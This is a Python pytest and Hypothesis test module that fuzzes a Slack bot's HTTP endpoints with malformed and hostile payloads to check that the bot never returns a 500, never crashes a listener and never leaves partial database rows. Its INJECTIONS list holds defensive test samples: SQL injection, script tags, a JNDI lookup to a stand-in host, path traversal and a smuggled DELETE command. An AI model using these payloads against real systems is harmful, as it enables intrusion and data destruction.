"""Hostile interaction payloads over HTTP: never a 500, never a crash, never a half-written row.

Signed bodies go to /slack/events of a live bot (tests/hardening/conftest.py): slash commands,
block_actions and view_submissions with missing keys, wrong types, huge and unicode strings
and injection strings. Whatever comes in, the bot answers below 500, raises nothing in a
listener (apart from Slack's own "no such user" for made-up user ids), and the database holds
only whole requests. Form-field properties live in tests/unit/domain/test_intake.py.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from slack_sdk.errors import SlackApiError

from adapters.slack import ids
from bot.domain import intake
from bot.domain.model import Channel
from bot.domain.workflow import Action
from tests.fakes import REQUESTER, SECURITY, draft
from tests.hardening.conftest import RESPONSE_URL, Answer, LiveBot

INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE requests; --',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<!channel> <@U0001> <#C0001>",
    "\x00\x01\x1b[31m",
    "\u202eevil\u202c",
    "../../etc/passwd",
    "%s%n%x",
    "PR-1001; DELETE FROM steps",
    "1e309",
    "-0",
    "NaN",
    "Infinity",
    '{"r": 1e999, "s": "it"}',
    '{"r": 99999999999999999999999, "s": "it"}',
    '{"r": -1}',
    '{"r": "1", "s": ["it"]}',
    "[]",
    "null",
]
HUGE = st.builds(
    lambda c, n: c * n, st.sampled_from(["a", "é", "🙂", "\u0000", " "]), st.integers(3000, 60000)
)
TEXT = st.one_of(st.text(max_size=80), st.sampled_from(INJECTIONS), HUGE)
JUNK: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=2**63),
    st.floats(),
    TEXT,
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)
ACTION_IDS = [
    *(ids.action_id(a) for a in Action),
    intake.CATEGORY,
    ids.KEEP,
    "pb_",
    "pb_nonsense",
]
CALLBACKS = [ids.INTAKE, ids.EDIT, ids.REASON, ids.CONFIRM_EXISTING, "other"]
FIELDS = [*intake.LABELS, ids.REASON_BLOCK, "nope"]
ELEMENT_TYPES = [
    "plain_text_input",
    "static_select",
    "radio_buttons",
    "external_select",
    "datepicker",
    "number_input",
    "x",
]

#: Users who may not act on the fixture's request (the requester and IT are left out of clicks).
OUTSIDERS = ["U0BOT", "U9999", "", "W0001"]


@pytest.fixture(scope="module")
def bot(live_bot: LiveBot) -> Iterator[LiveBot]:
    """The live bot with one pending request (routed to IT) to click at."""
    live_bot.core.service.submit(requester=REQUESTER, draft=draft(), channel=Channel.SLACK)
    live_bot.deliver()
    live_bot.crashes.take()
    yield live_bot


STRINGS = st.one_of(TEXT, st.just(""), st.none())


def often(valid: st.SearchStrategy[Any], other: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly the valid shape (so listeners run), sometimes something else."""
    return st.sampled_from(range(30)).flatmap(lambda n: other if n == 15 else valid)


def people_ref(people: list[str]) -> st.SearchStrategy[Any]:
    valid = st.builds(
        lambda i: {"id": i, "username": "x", "team_id": "T0001"}, st.sampled_from(people)
    )
    return often(valid, st.one_of(st.builds(lambda i: {"id": i}, JUNK), JUNK))


def action_value(request_id: int) -> st.SearchStrategy[Any]:
    valid = json.dumps({"r": request_id, "s": "it-review"})
    shaped = st.builds(lambda r, s: json.dumps({"r": r, "s": s}), JUNK, JUNK)
    return st.one_of(st.just(valid), shaped, STRINGS)


@st.composite
def state_values(draw: st.DrawFn) -> Any:
    element = st.builds(
        lambda kind, value, option, day: {
            "type": kind,
            "value": value,
            "selected_option": option,
            "selected_date": day,
        },
        st.sampled_from(ELEMENT_TYPES),
        often(STRINGS, JUNK),
        often(st.builds(lambda v: {"value": v}, STRINGS), JUNK),
        st.one_of(st.just("2026-12-24"), STRINGS),
    )
    return draw(
        st.dictionaries(
            st.sampled_from(FIELDS),
            st.dictionaries(st.sampled_from(FIELDS), element, max_size=2),
            max_size=len(FIELDS),
        )
    )


def metadata(request_id: int) -> st.SearchStrategy[str]:
    return st.builds(
        lambda r, a, s, confirmed: json.dumps({"r": r, "a": a, "s": s, "confirmed": confirmed}),
        st.one_of(st.just(request_id), JUNK),
        st.one_of(st.sampled_from([a.value for a in Action]), JUNK),
        JUNK,
        st.booleans(),
    )


def view(request_id: int, *, kind: str = "modal") -> st.SearchStrategy[Any]:
    return st.fixed_dictionaries(
        {
            "id": often(st.text(min_size=1, max_size=12), JUNK),
            "type": st.just(kind),
            "callback_id": st.sampled_from(CALLBACKS),
            "state": often(st.builds(lambda v: {"values": v}, state_values()), JUNK),
            "private_metadata": often(st.one_of(metadata(request_id), TEXT), JUNK),
            "hash": st.just("1.x"),
            "blocks": often(st.just([{"type": "input", "block_id": f} for f in FIELDS]), JUNK),
            "title": often(st.just({"type": "plain_text", "text": "T"}), JUNK),
            "submit": often(st.just({"type": "plain_text", "text": "S"}), JUNK),
        },
    )


@st.composite
def block_actions(draw: st.DrawFn, request_id: int, people: list[str]) -> Any:
    action = {
        "type": draw(st.sampled_from(["button", "static_select", "x"])),
        "action_id": draw(often(st.sampled_from(ACTION_IDS), JUNK)),
        "block_id": draw(st.sampled_from([ids.CARD_ACTIONS_BLOCK, *FIELDS])),
        "value": draw(action_value(request_id)),
        "selected_option": draw(st.one_of(st.none(), st.builds(lambda v: {"value": v}, STRINGS))),
        "action_ts": draw(often(st.just("1700000000.000100"), STRINGS)),
    }
    payload = {
        "type": "block_actions",
        "user": draw(people_ref(people)),
        "api_app_id": "A0BENCH",
        "team": {"id": "T0001", "domain": "acme"},
        "trigger_id": draw(often(st.just("1.2.3"), JUNK)),
        "container": draw(
            often(
                st.one_of(
                    st.builds(
                        lambda c: {"type": "message", "channel_id": c, "message_ts": "1.1"},
                        st.one_of(st.just("D0001"), TEXT),
                    ),
                    st.just({"type": "view", "view_id": "V0001"}),
                ),
                JUNK,
            )
        ),
        "channel": draw(often(st.builds(lambda c: {"id": c}, TEXT), JUNK)),
        "actions": draw(often(st.just([action]), JUNK)),
        "view": draw(often(view(request_id, kind=draw(st.sampled_from(["modal", "home"]))), JUNK)),
        "response_url": RESPONSE_URL,
    }
    dropped = draw(st.sets(st.sampled_from(["container", "channel", "view", "trigger_id"])))
    return {k: v for k, v in payload.items() if k not in dropped}


@st.composite
def view_submission(draw: st.DrawFn, request_id: int, people: list[str]) -> Any:
    payload = {
        "type": "view_submission",
        "user": draw(people_ref(people)),
        "api_app_id": "A0BENCH",
        "team": {"id": "T0001", "domain": "acme"},
        "trigger_id": "1.2.3",
        "view": draw(often(view(request_id), JUNK)),
    }
    dropped = draw(st.sets(st.sampled_from(["user", "trigger_id", "view"]), max_size=1))
    return {k: v for k, v in payload.items() if k not in dropped}


@st.composite
def slash_command(draw: st.DrawFn, people: list[str]) -> dict[str, str]:
    words = st.sampled_from(["status", "cancel", "list", "help", "stats 1042", "status PR-1001"])
    form = {
        "command": draw(often(st.just(ids.COMMAND), TEXT)),
        "text": draw(
            st.one_of(TEXT, words, words.flatmap(lambda w: TEXT.map(lambda t: f"{w} {t}")))
        ),
        "user_id": draw(often(st.sampled_from(people), TEXT)),
        "user_name": draw(TEXT),
        "channel_id": draw(often(st.just("D0001"), TEXT)),
        "team_id": "T0001",
        "trigger_id": draw(often(st.just("1.2.3"), TEXT)),
        "response_url": RESPONSE_URL,
    }
    dropped = draw(st.sets(st.sampled_from(list(form)), max_size=1))
    return {k: v for k, v in form.items() if k not in dropped}


def expect_sane(bot: LiveBot, answer: Answer, before: dict[str, int] | None = None) -> None:
    """Below 500, no listener crash (Slack's own refusals aside), whole rows only."""
    assert answer.status < 500, answer.text
    crashes = [
        r
        for r in bot.crashes.take()
        if not (r.exc_info and isinstance(r.exc_info[1], SlackApiError))
    ]
    assert not crashes, "\n".join(logging.Formatter().format(r) for r in crashes)
    if (
        answer.json
        and isinstance(answer.json, dict)
        and answer.json.get("response_action") == "errors"
    ):
        errors = answer.json.get("errors")
        assert isinstance(errors, dict) and errors
        assert all(isinstance(v, str) and v for v in errors.values())
    bot.check_integrity()
    if before is not None:
        assert bot.counts() == before


FORM = "application/x-www-form-urlencoded"
FAST = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@FAST
@given(data=st.data())
def test_block_actions_from_outsiders_change_nothing(bot: LiveBot, data: st.DataObject) -> None:
    people = [bot.user(SECURITY), *OUTSIDERS]
    payload = data.draw(st.one_of(block_actions(1, people), JUNK))
    before = bot.counts()
    answer = bot.interaction(payload)
    event(f"HTTP {answer.status}")
    expect_sane(bot, answer, before)


@FAST
@given(data=st.data())
def test_view_submissions_are_saved_whole_or_refused(bot: LiveBot, data: st.DataObject) -> None:
    people = [bot.user(REQUESTER), bot.user(SECURITY), *OUTSIDERS]
    payload = data.draw(st.one_of(view_submission(1, people), JUNK))
    answer = bot.interaction(payload)
    event(f"HTTP {answer.status}")
    expect_sane(bot, answer)


@FAST
@given(data=st.data())
def test_slash_commands_never_fail(bot: LiveBot, data: st.DataObject) -> None:
    people = [bot.user(SECURITY), *OUTSIDERS]
    before = bot.counts()
    answer = bot.command(data.draw(slash_command(people)))
    event(f"HTTP {answer.status}")
    expect_sane(bot, answer, before)


# Every kind of body Slack documents, and the keys Bolt reads of any of them.
SLACK_TYPES = [
    "block_actions",
    "view_submission",
    "view_closed",
    "block_suggestion",
    "shortcut",
    "message_action",
    "interactive_message",
    "dialog_submission",
    "dialog_cancellation",
    "dialog_suggestion",
    "workflow_step_edit",
    "workflow_step_execute",
    "event_callback",
    "url_verification",
    "app_rate_limited",
]
ENVELOPE_KEYS = [
    "type",
    "user",
    "user_id",
    "team",
    "team_id",
    "enterprise",
    "enterprise_id",
    "channel",
    "channel_id",
    "authorizations",
    "is_enterprise_install",
    "event",
    "event_id",
    "view",
    "actions",
    "action_id",
    "block_id",
    "callback_id",
    "value",
    "trigger_id",
    "response_url",
    "message",
    "container",
    "challenge",
    "command",
    "state",
]


@st.composite
def any_signed_body(draw: st.DrawFn) -> tuple[str, str]:
    """(body, content type): any kind of Slack body, its keys holding anything."""
    inner = st.dictionaries(st.sampled_from(ENVELOPE_KEYS), JUNK, max_size=4)
    value = st.one_of(JUNK, inner, st.lists(st.one_of(inner, JUNK), max_size=2))
    body = draw(st.dictionaries(st.sampled_from(ENVELOPE_KEYS), value, max_size=8))
    body["type"] = draw(st.one_of(st.sampled_from(SLACK_TYPES), value))
    how = draw(st.sampled_from(["interaction", "event", "form"]))
    if how == "interaction":
        return urlencode({"payload": json.dumps(body)}), FORM
    if how == "event":
        return json.dumps(body), "application/json"
    return urlencode({k: str(v) for k, v in body.items()}), FORM


@FAST
@given(signed=any_signed_body())
def test_any_signed_body_is_answered_below_500(bot: LiveBot, signed: tuple[str, str]) -> None:
    # Once found 9 in 200 answered 500: a `type` that is a list or an object, a null or
    # empty `view`, `event` or `actions` that Bolt's own matchers read before any listener.
    before = bot.counts()
    answer = bot.post(*signed)
    event(f"HTTP {answer.status}")
    expect_sane(bot, answer, before)


@pytest.mark.parametrize(
    "payload",
    [
        {"type": []},
        {"type": {"a": 1}},
        {"type": "view_closed", "view": None},
        {"type": "view_closed", "view": 5},
        {"type": "shortcut", "callback_id": "x", "event": None},
        {"type": "workflow_step_execute", "view": None},
        {"type": "block_suggestion", "action_id": [1]},
        {"type": "block_actions", "user": {"id": "U0001"}, "actions": []},
        {"type": "interactive_message", "callback_id": "x", "actions": []},
    ],
)
def test_bodies_bolt_cannot_read_are_400(bot: LiveBot, payload: dict[str, Any]) -> None:
    answer = bot.interaction(payload)
    assert answer.status == 400, answer.text  # each was a 500
    assert answer.json["error"].startswith("malformed body: ")
    expect_sane(bot, answer)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "payload=",
        "payload=%7B",
        "payload=null",
        "payload=[1,2]",
        "payload=%22x%22",
        "a=b&a=c",
        "\xff\xfe",
    ],
)
def test_malformed_bodies_are_refused_cleanly(bot: LiveBot, body: str) -> None:
    expect_sane(bot, bot.post(body, "application/x-www-form-urlencoded"))


@pytest.mark.parametrize(
    "body", ["", "{", "[]", "null", '{"type": 5}', '{"type": "event_callback", "event": 5}']
)
def test_malformed_json_events_are_refused_cleanly(bot: LiveBot, body: str) -> None:
    expect_sane(bot, bot.post(body, "application/json"))
